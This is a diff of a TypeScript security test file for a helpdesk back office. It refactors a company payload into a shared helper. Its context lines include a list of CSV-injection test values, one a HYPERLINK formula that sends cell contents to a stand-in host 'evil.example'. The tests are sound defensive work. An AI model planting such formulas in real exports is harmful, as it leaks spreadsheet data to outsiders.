@@ -15,6 +15,7 @@ import { loadConfig } from '../config';
 import { companies, tickets, users } from '../platform/db/schema';
 import { makeFakeFrontend } from '../test/fake-dist';
 import { type Client, DEMO_PASSWORD, login, startServer, type TestServer } from '../test/harness';
+import { companyBody } from '../test/company-body';
 
 /** A value of each start a spreadsheet runs as a formula (OWASP "CSV injection"). */
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
@@ -260,27 +261,15 @@ describe('back-office hardening (issue 35)', () => {
 
   it('item 3c: only admins and managers change a company’s assigned agents', async () => {
     const agentId = ids['agent@demo.test']!;
-    const body = (agentIds: number[]) => ({
-      name: 'Agenci Sp. z o.o.',
-      short_name: 'Agenci',
-      tag: 'AGNC',
-      domains: ['agenci.test'],
-      addresses: [{ street: 'Prosta 1', city: 'Warszawa', postcode: '00-001' }],
-      business_hours: { from_day: 1, to_day: 5, from_hour: '08:00', to_hour: '16:00' },
-      report_frequency: 'monthly',
-      report_hours_limit: true,
-      report_vip_only: false,
-      show_reports: 1,
-      show_monitoring_logs: 0,
-      categories: ['servers'],
-      responsible_agent_id: null,
-      agent_ids: agentIds,
-      charging_model: 'universal',
-      arrivals_package: false,
-      priorities: [
-        { priority: 'normal', is_24_7: false, active: true, is_default: true, open_sla_minutes: 240, resolve_sla_minutes: 2880 },
-      ],
-    });
+    const body = (agentIds: number[]) =>
+      companyBody({
+        name: 'Agenci Sp. z o.o.',
+        short_name: 'Agenci',
+        tag: 'AGNC',
+        domains: ['agenci.test'],
+        addresses: [{ street: 'Prosta 1', city: 'Warszawa', postcode: '00-001' }],
+        agent_ids: agentIds,
+      });
     const created = await as.admin!.post('/api/admin/company', body([agentId]));
     assert.equal(created.status, 201, JSON.stringify(created.body));
     const url = `/api/admin/company/${created.body.data.id}`;
